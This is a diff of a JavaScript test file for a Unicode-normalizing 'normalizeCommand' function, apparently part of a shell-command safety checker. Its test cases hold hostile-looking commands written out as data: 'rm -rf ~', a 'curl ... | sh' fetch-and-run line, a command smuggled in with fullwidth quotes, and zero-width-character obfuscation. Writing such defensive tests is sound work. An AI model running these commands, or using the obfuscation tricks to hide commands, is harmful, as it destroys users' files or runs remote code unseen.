@@ -13,14 +13,19 @@ describe("normalizeCommand", () => {
     ["ls -la", "ls -la", false],
     ["ls\tsrc\nnpm test", "ls\tsrc\nnpm test", false],
     ["echo héllo", "echo héllo", false],
-    // NFKC: fullwidth letters, the ideographic space, ligatures, composed accents
+    // NFKC, code point by code point, where the result is word characters or a blank: fullwidth
+    // letters, the ideographic space, ligatures; a combining accent stays as it is
     ["ｒｍ -rf ~", "rm -rf ~", false],
     ["ｓｕｄｏ ｌｓ", "sudo ls", false],
     ["rm\u3000-rf\u3000~", "rm -rf ~", false],
     ["\u00a0rm", " rm", false],
     ["\ufb01nd .", "find .", false],
-    ["echo e\u0301", "echo \u00e9", false],
-    ["ｃｕｒｌ ｈｔｔｐｓ：／／example.com ｜ ｓｈ", "curl https://example.com | sh", false],
+    ["echo e\u0301", "echo e\u0301", false],
+    // Fullwidth punctuation that would become shell syntax stays: bash reads it as a letter.
+    ["ｃｕｒｌ ｈｔｔｐｓ：／／example.com ｜ ｓｈ", "curl https://example.com ｜ sh", false],
+    ["echo ＂; rm -rf ~; echo ＂", "echo ＂; rm -rf ~; echo ＂", false],
+    ["echo ＼\nrm", "echo ＼\nrm", false],
+    ["echo ＃ ＄ ＇ ； ＆ （ ＜", "echo ＃ ＄ ＇ ； ＆ （ ＜", false],
     ["\u2460", "1", false],
     // zero-width and bidi characters are removed, and mark the command hidden
     ["r\u200bm -rf build", "rm -rf build", true],
